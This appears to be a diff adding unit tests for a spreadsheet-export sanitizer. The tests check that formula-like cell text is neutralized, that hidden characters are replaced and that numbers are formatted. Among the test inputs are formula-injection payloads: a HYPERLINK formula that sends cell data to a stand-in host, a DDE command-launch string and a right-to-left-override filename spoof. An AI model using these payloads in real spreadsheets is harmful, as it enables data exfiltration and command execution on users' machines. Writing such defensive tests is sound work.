@@ -1,0 +1,74 @@
+"""Cells that stay text."""
+
+import unicodedata
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from limner.reports.cells import cell, fixed, plain, significant
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "   =1",
+        "\u00a0=1",
+        "＝1+1",  # noqa: RUF001 - full-width equals sign
+        "＋1",  # noqa: RUF001 - full-width plus
+        "−1",
+        "\tharmless",
+        '=HYPERLINK("http://x.example?"&A1,"click")',
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_a_formula_gets_an_apostrophe(text: str) -> None:
+    assert cell(text).startswith("'")
+
+
+@pytest.mark.parametrize("text", ["", "water", "a=b", "snow/ice", "12", "a - b", "Größe", "水"])
+def test_other_text_stays_as_it_is(text: str) -> None:
+    assert cell(text) == text
+
+
+def test_no_formula_after_a_semicolon() -> None:
+    assert cell("calm; =1+1;+2") == "calm; '=1+1;'+2"
+
+
+def test_unseen_characters_are_seen() -> None:
+    assert plain("a\r\nb\tc") == "a  b c"
+    assert plain("evil\u202etxt.exe\u200b\u0000\ud800") == "evil\ufffdtxt.exe\ufffd\ufffd\ufffd"
+
+
+@given(st.text(alphabet=st.characters(), max_size=40))
+@settings(deadline=None, derandomize=True)
+def test_any_text_becomes_one_visible_line(text: str) -> None:
+    safe = cell(text)
+    assert len(safe.splitlines()) <= 1
+    assert not any(unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for c in safe)
+    assert safe.lstrip()[:1] not in set("=+-@＝＋－＠")  # noqa: RUF001 - full-width forms
+    safe.encode("utf-8")
+
+
+def test_numbers_have_one_form() -> None:
+    assert fixed([0.0, -0.00001, 1.005, 1e20, float("nan"), float("inf")], 2) == [
+        "0.00",
+        "0.00",
+        "1.00",
+        "100000000000000000000.00",
+        "",
+        "",
+    ]
+    assert significant([0.0, 1 / 3, 1.23456789012e12, 4e-11, float("nan")]) == [
+        "0",
+        "0.333333333",
+        "1234567890000",
+        "0.00000000004",
+        "",
+    ]
